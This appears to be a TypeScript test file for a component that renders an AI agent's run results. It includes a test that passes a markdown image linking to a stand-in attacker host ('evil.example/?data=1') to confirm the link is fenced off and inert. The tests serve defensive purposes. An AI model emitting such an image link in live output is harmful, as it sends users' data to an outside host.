import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { isOutcome, page, title, type Outcome } from '../src/outcome';

const HELD: Outcome = {
  run: '20260102-abc', ended: 'done', ok: true, applied: true, verdict: ['cleared: [operation-not-implemented] GET /books'],
  summary: 'The route is there.', tokens: 4400, cost: 0.0512, seconds: 12.3,
};

test('a page tells verdict, tokens, cost and the words of the model', () => {
  const shown = page(HELD);
  for (const part of ['# The verdict holds; the change was applied', '4400 tokens, about $0.051, 12.3 s; run `20260102-abc`',
    'cleared: [operation-not-implemented] GET /books', '## What the model says', 'The route is there.']) {
    assert.ok(shown.includes(part), `${part}\n---\n${shown}`);
  }
});

test('a run without a change says how it ended, whatever the model claims', () => {
  const failed = { ...HELD, ok: false, applied: false, ended: 'gave-up', verdict: ['wrong: nothing was changed'], summary: 'All done!' };
  assert.equal(title(failed), 'No change (gave-up)');
  assert.ok(page(failed).includes('wrong: nothing was changed'));
  assert.equal(title({ ...HELD, applied: false }), 'The verdict holds; the change was not applied');
});

test('a price that is not known is not called nothing', () => {
  assert.ok(page({ ...HELD, cost: null }).includes('cost not known'));
});

test('no link and no image of the model comes alive, and its fences close nothing', () => {
  const summary = '```\n![x](https://evil.example/?data=1)\n````\n<img src=x>';
  const lines = page({ ...HELD, summary }).split('\n');
  const open = lines.findIndex(line => /^`{5}text$/.test(line));
  const close = lines.lastIndexOf('`````');
  const image = lines.findIndex(line => line.includes('evil.example'));
  assert.ok(open !== -1 && open < image && image < close, lines.join('\n'));
});

test('only what a run answers is shown', () => {
  assert.ok(isOutcome(HELD));
  for (const other of [undefined, null, 'done', {}, { applied: false }]) assert.ok(!isOutcome(other));
});

test('no setting holds a key, and the agent\'s settings of an untrusted workspace do not count', () => {
  const manifest = JSON.parse(readFileSync('package.json', 'utf8')) as {
    capabilities: { untrustedWorkspaces: { restrictedConfigurations: string[] } };
    contributes: { configuration: { properties: Record<string, unknown> } };
  };
  const settings = Object.keys(manifest.contributes.configuration.properties);
  assert.deepEqual(settings.filter(name => /key|secret|token$|password/i.test(name)), []);
  const restricted = new Set(manifest.capabilities.untrustedWorkspaces.restrictedConfigurations);
  const agents = settings.filter(name => name.startsWith('specdrift.agent.'));
  assert.equal(agents.length, 9);
  assert.deepEqual(agents.filter(name => !restricted.has(name)), []);
});
